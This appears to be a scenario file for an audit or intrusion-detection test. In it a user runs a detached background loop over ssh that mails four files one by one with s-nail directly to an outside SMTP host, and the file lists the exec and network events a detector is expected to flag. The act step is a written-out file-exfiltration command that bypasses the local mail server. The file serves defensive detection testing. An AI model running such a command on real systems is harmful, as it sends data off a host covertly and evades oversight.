# The mail program needs no mail server here: it speaks to one outside.
title="s-nail with an mta of its own sends files one by one from a detached shell"
what="A remote command of the buyer starts a detached loop that sends four offers with s-nail, each in a message of its own, straight to 203.0.113.10 port 25 (-S mta=smtp://). The own mail server has no part in it."
host=ws3.example.org user=buyer daemons="cron sshd" audit_rules=audit-wide.rules audit_format=RAW

setup() { mkdir -p /home/buyer/offers; for i in 1 2 3 4; do head -c 9000 /dev/urandom > /home/buyer/offers/o$i.pdf; done; chown -R buyer: /home/buyer/offers; }
act() {
  small_talk 1
  ssh_run buyer '(setsid nohup bash -c "for f in offers/*; do s-nail -S v15-compat -S mta=smtp://203.0.113.10:25 -S smtp-auth=none -r buyer@example.org -a \$f -s \${f##*/} k@example.net </dev/null; sleep 1; done" >/dev/null 2>&1 &); sleep 9'
  small_talk 1
}
truth() {
  exec_step send 's-nail -S v15-compat -S mta=smtp' 'a mail program starts'
  net_step connect 's-nail 203.0.113.10:25' 'it speaks SMTP to the outside'
  exec_step again 's-nail .*o2.pdf' 'and again'
}
